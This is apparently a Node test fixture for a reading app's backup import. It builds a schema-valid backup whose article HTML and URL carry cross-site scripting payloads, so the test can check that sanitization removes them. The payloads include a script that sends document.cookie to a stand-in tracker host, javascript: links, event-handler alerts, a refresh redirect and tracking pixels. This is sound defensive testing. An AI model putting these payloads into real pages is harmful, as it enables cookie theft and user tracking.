// Tests (Node): a Glossa backup as an attacker would share it — valid by the backup schema, hostile in its
// article HTML and address. Every hostile part carries no text, so the article's text (what annotations are
// anchored on) is exactly the two paragraphs once the HTML is sanitized.
import { sampleTarget } from '../temp-archive'

export const HOSTILE_TEXT = 'Officers counted 600 drones.\n\nThe grid held at 70% of capacity.'

const HOSTILE_HTML = [
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>body{background:url(http://tracker.example/bg.png)}</style>',
  '<script>fetch("http://tracker.example/?c="+document.cookie)</script>',
  '<p onclick="alert(1)">Officers counted 600 drones.<img src="http://tracker.example/pixel.gif" onerror="alert(2)"></p>',
  '<iframe srcdoc="<script>alert(3)</script>"></iframe>',
  '<img src="data:image/png;base64,iVBORw0KGgo=" srcset="http://tracker.example/2x.png 2x" alt="">',
  '<video src="http://tracker.example/v.mp4" autoplay></video>',
  '<form action="http://evil.example/"><input name="q"><button>Send</button></form>',
  '<svg><a href="javascript:alert(4)"><text>x</text></a></svg>',
  '<math><mtext><a href="javascript:alert(5)">y</a></mtext></math>',
  '<p><a href="javascript:alert(6)">The grid held</a> at 70% of capacity.</p>',
].join('')

export function hostileBackup() {
  const stamp = '2024-01-01T00:00:00.000Z'
  return {
    format: 'glossa-backup',
    version: 1,
    generatedAt: stamp,
    articles: [
      {
        id: 'hostile01',
        title: 'Hostile',
        url: 'javascript:alert(7)',
        addedAt: stamp,
        tags: ['shared'],
        textHash: 'forged',
        length: 1,
        counts: { highlights: 0, figures: 0, notes: 0 },
        annotationTags: {},
        text: HOSTILE_TEXT,
        html: HOSTILE_HTML,
      },
    ],
    annotations: [
      {
        id: 'ann00001',
        articleId: 'hostile01',
        kind: 'highlight',
        color: 'yellow',
        note: '',
        tags: [],
        target: sampleTarget(HOSTILE_TEXT, '600 drones'),
        createdAt: stamp,
        updatedAt: stamp,
      },
    ],
    tagColors: {},
    collections: [],
  }
}
